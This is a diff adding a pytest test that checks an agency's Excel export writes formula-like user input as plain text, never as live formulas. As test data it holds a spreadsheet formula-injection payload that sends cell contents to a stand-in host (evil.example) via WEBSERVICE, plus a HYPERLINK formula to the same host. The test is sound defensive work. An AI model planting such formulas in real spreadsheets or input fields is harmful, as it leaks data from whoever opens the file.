@@ -122,3 +122,21 @@ def test_only_an_agency_may_export_and_the_period_must_make_sense(app, month_end
             export.agency_workbook(user_named(agency.username), date(2010, 1, 1), date(2026, 12, 1))
         assert too_long.value.errors == {"from": ["统计区间最长 10 年"]}
         db.session.rollback()
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(app, world):
+    # What enterprises and providers type ends up in the agency's Excel: it must never run there.
+    agency, provider, enterprise = world.agency(), world.provider(), world.enterprise()
+    purpose = '=WEBSERVICE("http://evil.example/?"&A2)'
+    code = world.code(agency, provider, enterprise, purpose=purpose)
+    _code, visit_id = world.completed_visit(agency, provider, enterprise, code)
+    comment = '=HYPERLINK("http://evil.example","点此查看")'
+    assert world.rate(enterprise, visit_id, 3, comment=comment).status_code == 201
+
+    book = workbook(app, agency.username, date(2026, 12, 1), date(2026, 12, 31))
+
+    purpose_cell = book["服务码"]["I2"]
+    comment_cell = book["评价"]["J2"]
+    assert (purpose_cell.value, purpose_cell.data_type) == (purpose, "s")
+    assert (comment_cell.value, comment_cell.data_type) == (comment, "s")
+    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
